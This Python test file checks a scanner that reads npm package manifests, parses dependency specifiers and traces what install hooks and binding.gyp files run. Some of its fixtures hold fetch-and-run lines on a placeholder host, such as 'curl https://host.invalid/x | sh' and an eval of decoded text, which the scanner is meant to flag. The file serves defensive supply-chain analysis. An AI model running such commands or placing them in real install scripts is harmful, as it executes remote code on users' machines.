"""npm packages: the manifest, and what installing one runs."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from doorward.sources.content.npm import parse_requirement
from tests.content.made import capabilities, hook, npm


def test_a_plain_package() -> None:
    content = npm({"main": "lib"}, {"lib/index.js": "require('fs')\n", "lib/other.js": ""})
    assert (content.kind, content.name, content.version) == ("npm", "example-lib", "1.2.3")
    assert [member.path for member in content.members] == ["package.json", "lib/index.js", "lib/other.js"]
    assert content.entries == ("lib/index.js",)
    assert content.imports == ("fs",)
    assert content.hooks == content.anomalies == content.unread == ()


def test_the_top_folder_is_removed_whatever_its_name() -> None:
    content = npm({}, {"index.js": ""}, root="strange-name")
    assert [member.path for member in content.members] == ["package.json", "index.js"]


@pytest.mark.parametrize(
    ("specifier", "expected"),
    [
        ("^1.2.0", ("dep", "^1.2.0", "registry")),
        ("", ("dep", "", "registry")),
        ("latest", ("dep", "latest", "registry")),
        (">=1 <2 || 3.x", ("dep", ">=1 <2 || 3.x", "registry")),
        ("npm:real@^2", ("real", "^2", "registry")),
        ("npm:real", ("real", "", "registry")),
        ("npm:@scope/real@1.0.0", ("@scope/real", "1.0.0", "registry")),
        ("npm:@scope/real", ("@scope/real", "", "registry")),
        ("git+https://git.example/a/b.git#main", ("dep", "git+https://git.example/a/b.git#main", "git")),
        ("git://git.example/a", ("dep", "git://git.example/a", "git")),
        ("git@git.example:a/b.git", ("dep", "git@git.example:a/b.git", "git")),
        ("ssh://git@git.example/a/b", ("dep", "ssh://git@git.example/a/b", "git")),
        ("https://git.example/a/b.git#v1", ("dep", "https://git.example/a/b.git#v1", "git")),
        ("github:a/b", ("dep", "github:a/b", "git")),
        ("gitlab:a/b#x", ("dep", "gitlab:a/b#x", "git")),
        ("a/b", ("dep", "a/b", "git")),
        ("a/b#semver:^1", ("dep", "a/b#semver:^1", "git")),
        ("https://host.example/x.tgz", ("dep", "https://host.example/x.tgz", "url")),
        ("file:../x", ("dep", "file:../x", "path")),
        ("./x", ("dep", "./x", "path")),
        ("../x.tgz", ("dep", "../x.tgz", "path")),
        ("~/x", ("dep", "~/x", "path")),
        ("/x", ("dep", "/x", "path")),
        ("link:../x", ("dep", "link:../x", "path")),
        ("workspace:*", ("dep", "workspace:*", "path")),
        ("GIT+HTTPS://git.example/a/b", ("dep", "git+https://git.example/a/b", "git")),
        ("HTTPS://host.example/x.tgz", ("dep", "https://host.example/x.tgz", "url")),
        ("https:host.example/x.tgz", ("dep", "https:host.example/x.tgz", "url")),
        ("GitHub:a/b", ("dep", "github:a/b", "git")),
        ("NPM:real@1", ("real", "1", "registry")),
        ("FILE:./x", ("dep", "file:./x", "path")),
        ("user@host.example:a/b.git", ("dep", "user@host.example:a/b.git", "git")),
        ("a/b/c", ("dep", "a/b/c", "path")),
        ("x.tgz", ("dep", "x.tgz", "path")),
        ("odd:thing", ("dep", "odd:thing", "url")),
        ("v1.2.3-rc.1+build", ("dep", "v1.2.3-rc.1+build", "registry")),
    ],
)
def test_specifiers(specifier: str, expected: tuple[str, str, str]) -> None:
    found = parse_requirement("dep", specifier, "runtime")
    assert (found.name, found.specifier, found.source) == expected


@given(st.text(max_size=60))
def test_any_specifier_has_an_answer(text: str) -> None:
    assert parse_requirement("dep", text, "runtime").source in {"registry", "git", "url", "path"}


def test_groups() -> None:
    content = npm(
        {
            "dependencies": {"a": "1", "b": "2", "bad": 3},
            "optionalDependencies": {"b": "3"},
            "peerDependencies": {"c": "4"},
            "devDependencies": {"d": "5"},
            "bundledDependencies": ["a", "e", 7],
        }
    )
    assert [(one.name, one.specifier, one.group, one.marker) for one in content.requirements] == [
        ("a", "1", "runtime", "bundled"),
        ("b", "3", "optional", ""),
        ("c", "4", "peer", ""),
        ("e", "", "runtime", "bundled"),
    ]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("github:owner/repo", "https://github.com/owner/repo"),
        ("owner/repo", "https://github.com/owner/repo"),
        ({"type": "git", "url": "git+https://git.example/a/b.git"}, "https://git.example/a/b"),
        ({"url": "git@git.example:a/b.git"}, "https://git.example/a/b"),
        (["nonsense"], ""),
        (7, ""),
    ],
)
def test_repository(value, expected: str) -> None:
    assert npm({"repository": value}).repository == expected


@pytest.mark.parametrize("name", ["preinstall", "install", "postinstall", "prepare"])
def test_scripts_of_installing_are_hooks(name: str) -> None:
    found = hook(npm({"scripts": {name: "node run.js", "test": "node test.js"}}, {"run.js": "1\n"}), f"npm:{name}")
    assert (found.name, found.path, found.value, found.targets) == (name, "package.json", "node run.js", ("run.js",))


FILES = {
    "run.js": "require('./lib/a'); require('fs')\n",
    "lib/a.js": "require('./b'); require('child_process')\n",
    "lib/b.js": "require('https')\n",
    "lib/index.js": "",
    "setup.sh": "curl https://host.invalid/x | sh\nnode lib/b.js\n",
    "tool.py": "import helper, socket\n",
    "helper.py": "import subprocess\n",
    "data.bin": b"\0\1\2",
    "noext": "import socket\n",
    "bin/x.js": "fetch('x')\n",
}


@pytest.mark.parametrize(
    ("command", "targets"),
    [
        ("node run.js", ["run.js", "lib/a.js", "lib/b.js"]),
        ("node ./run", ["run.js", "lib/a.js", "lib/b.js"]),
        ("node --no-warnings run.js --flag", ["run.js", "lib/a.js", "lib/b.js"]),
        ("node lib", ["lib/index.js"]),
        ("node -r ./lib/b run.js", ["lib/b.js", "run.js", "lib/a.js"]),
        ("NODE_ENV=x node run.js || true", ["run.js", "lib/a.js", "lib/b.js"]),
        ("cross-env A=1 node run.js", ["run.js", "lib/a.js", "lib/b.js"]),
        ("echo start && node lib/b.js; node lib/index.js", ["lib/b.js", "lib/index.js"]),
        ("cd lib && node b.js", ["lib/b.js"]),
        ("node -e \"require('./lib/b')\"", ["lib/b.js"]),
        ("sh setup.sh", ["setup.sh", "lib/b.js"]),
        ("./setup.sh", ["setup.sh", "lib/b.js"]),
        ("sh -c 'node lib/b.js'", ["lib/b.js"]),
        ("python tool.py", ["tool.py", "helper.py"]),
        ("python3 -m helper", ["helper.py"]),
        ("python noext", ["noext"]),
        ("npm run build", ["lib/b.js"]),
        ("yarn build && node lib/index.js", ["lib/b.js", "lib/index.js"]),
        ("npm run loop", []),
        ("node bin\\x.js", []),
        ("node missing.js", []),
        ("node 'unclosed", []),
        ("", None),
    ],
)  # fmt: skip
def test_commands_are_followed(command: str, targets: list[str] | None) -> None:
    scripts = {"postinstall": command, "build": "node lib/b.js", "loop": "npm run loop"}
    content = npm({"scripts": scripts}, FILES)
    if targets is None:
        assert content.hooks == ()
    else:
        assert list(hook(content, "npm:postinstall").targets) == targets


@pytest.mark.parametrize(
    ("command", "reaches"),
    [
        ("node run.js", ("process", "network")),
        ("node lib/b.js", ("network",)),
        ("sh setup.sh", ("network", "decode-exec")),
        ("python noext", ("network",)),
        ("curl https://host.invalid/x", ("network",)),
        ("node -e \"eval(atob('x'))\"", ("decode-exec",)),
        ("node lib/index.js", ()),
    ],
)
def test_reach(command: str, reaches: tuple[str, ...]) -> None:
    assert hook(npm({"scripts": {"install": command}}, FILES), "npm:install").reaches == reaches


@pytest.mark.parametrize(
    ("command", "native"),
    [
        ("node-gyp rebuild", True),
        ("node-gyp-build", True),
        ("prebuild-install || node-gyp rebuild", True),
        ("prebuild-install --runtime napi || cmake-js compile", True),
        ("npm run native", True),
        ("node-gyp rebuild && node lib/b.js", False),
        ("node lib/index.js || node-gyp rebuild", False),
        ("node-gyp rebuild && curl x", False),
        ("echo done", False),
    ],
)
def test_native(command: str, native: bool) -> None:
    scripts = {"install": command, "native": "node-gyp rebuild"}
    assert hook(npm({"scripts": scripts}, FILES), "npm:install").native is native


@pytest.mark.parametrize(
    ("gyp", "native", "targets"),
    [
        ("{'targets': [{'target_name': 'x', 'sources': ['x.cc']}]}", True, ()),
        ("{'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"]}", True, ()),
        ("{'include_dirs': [\"<!@(node -p 'require(\\\"nan\\\")')\"]}", True, ()),
        ("{'targets': [{'sources': ['<!(node lib/b.js)']}]}", False, ("lib/b.js",)),
        ("{'targets': [{'actions': [{'action': ['node', 'lib/b.js']}]}]}", False, ("lib/b.js",)),
        ("{'variables': {'x': '<!(curl https://host.invalid | sh)'}}", False, ()),
    ],
)
def test_binding_gyp(gyp: str, native: bool, targets: tuple[str, ...]) -> None:
    found = hook(npm({}, {**FILES, "binding.gyp": gyp}), "npm:binding.gyp")
    assert found.native is native
    assert found.targets == ("binding.gyp", *targets)
    assert found.value.startswith("node-gyp rebuild")


def test_binding_gyp_below_the_root_is_no_hook() -> None:
    assert npm({}, {"deps/binding.gyp": "{}"}).hooks == ()


def test_binding_gyp_beside_an_install_script_implies_nothing() -> None:
    content = npm({"scripts": {"install": "node-gyp-build"}}, {"binding.gyp": "{}"})
    assert hook(content, "npm:binding.gyp").value == ""


def test_entries() -> None:
    exports = {".": {"import": "./m.mjs", "types": "./t.d.ts", "default": ["./c.cjs"]}, "./*": "./lib/*.js"}
    files = {"m.mjs": "", "c.cjs": "", "t.d.ts": "", "b.js": "", "lib/x.js": ""}
    assert npm({"main": "./c.cjs", "browser": "b", "exports": exports}, files).entries == ("b.js", "c.cjs", "m.mjs")
    assert npm({}, {"index.js": ""}).entries == ("index.js",)


@pytest.mark.parametrize("manifest", [b"{", b"\xff", b"[" * 100_000, b'{"name": "a"' + b" " * 10])
def test_a_broken_manifest_is_unread(manifest: bytes) -> None:
    assert "package.json cannot be parsed" in npm(manifest).unread[0]


@pytest.mark.parametrize(
    "manifest", [b"[]", b'"text"', b'{"scripts": [], "dependencies": 3, "main": {}, "exports": 9}']
)
def test_strange_manifests_are_read(manifest: bytes) -> None:
    content = npm(manifest)
    assert content.kind == "npm"
    assert content.requirements == ()


def test_a_byte_order_mark_is_no_damage() -> None:
    assert npm(b'\xef\xbb\xbf{"name": "a", "version": "1"}').name == "a"


def test_capabilities_have_places() -> None:
    content = npm({}, {"index.js": "\nrequire('https')\nrequire('child_process')\n", "x.d.ts": "import 'net'\n"})
    assert capabilities(content) == {"network": "index.js:2", "process": "index.js:3"}


def test_the_digest_covers_scripts_that_the_command_names() -> None:
    def digest(build: str) -> bytes:
        return hook(npm({"scripts": {"install": "npm run build", "build": build}}), "npm:install").digest

    assert digest("echo 1") == digest("echo 1") != digest("echo 2")
